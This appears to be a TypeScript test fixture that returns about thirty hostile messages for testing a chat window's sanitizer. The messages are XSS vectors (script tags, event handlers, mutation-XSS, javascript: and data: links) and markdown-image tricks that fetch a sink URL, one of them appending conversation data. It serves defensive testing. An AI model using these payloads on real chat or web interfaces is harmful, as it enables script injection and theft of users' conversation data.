/**
 * Messages that try to run a script or to fetch from `sink`, by attacks that have worked against other chat windows.
 */
export function hostilePayloads(sink: string): readonly string[] {
  const run = `window.alert('run')`
  return [
    `<script>${run}</script>`,
    `<img src=x onerror="${run}"><img src="${sink}/html-image">`,
    `<svg onload="${run}"><image href="${sink}/svg"/></svg><svg><script>${run}</script></svg>`,
    `<iframe srcdoc="<script>parent.alert('run')</script>"></iframe><iframe src="${sink}/frame"></iframe>`,
    `<video src="${sink}/video" autoplay onloadstart="${run}"></video><audio src="${sink}/audio" autoplay></audio>`,
    `<link rel="stylesheet" href="${sink}/style"><style>@import '${sink}/import'; body { background: url(${sink}/background) }</style>`,
    `<meta http-equiv="refresh" content="0;url=${sink}/refresh"><base href="${sink}/">`,
    `<form action="${sink}/form"><input autofocus onfocus="${run}"><button>go</button></form>`,
    `<object data="${sink}/object"></object><embed src="${sink}/embed">`,
    `<details open ontoggle="${run}">x</details><body onload="${run}">`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
    `![picture](${sink}/markdown-image?conversation=secret)`,
    `![reference][far]\n\n[far]: ${sink}/reference-image`,
    `![inline](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)`,
    `[click](javascript:${encodeURIComponent(run)}) [click](JaVaScRiPt:alert(1)) [click](&#106;avascript:alert(1)) [click](java\tscript:alert(1))`,
    `[click](vbscript:x) [click](data:text/html,<script>alert(1)</script>) [click](file:///etc/passwd) [click](smb://host/share) [click](ms-msdt:/id)`,
    `[plain link](${sink}/link) <${sink}/autolink> ${sink}/bare`,
    `[credentials](http://user:password@127.0.0.1/) [space](<${sink}/a b>)`,
    `\`\`\`html\n<img src=x onerror="${run}"><script>${run}</script>\n\`\`\``,
    `\`\`\`\n<img src="${sink}/unclosed" onerror="${run}">`,
    `| a | b |\n|---|---|\n| <img src=${sink}/cell> | ![x](${sink}/cell-image) |`,
    `<a href="${sink}/anchor" ping="${sink}/ping" onmouseover="${run}">hover</a>`,
    `<<script>${run}//<</script><img """><script>${run}</script>">`,
    `${'> '.repeat(300)}deep ![x](${sink}/deep)`,
    `- [ ] <input type=image src=${sink}/checkbox>\n- [x] ![x](${sink}/task)`,
    `Footnote[^1]\n\n[^1]: <img src=${sink}/footnote onerror=${run}>`,
    `{{constructor.constructor('alert(1)')()}} \${alert(1)} <%= alert(1) %>`,
    `\u202e<gpj.x=crs gmi>\u202c \u0000<img\u0000src=${sink}/nul>`,
    `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
    `<template><img src=${sink}/template></template><portal src=${sink}/portal></portal>`,
  ]
}
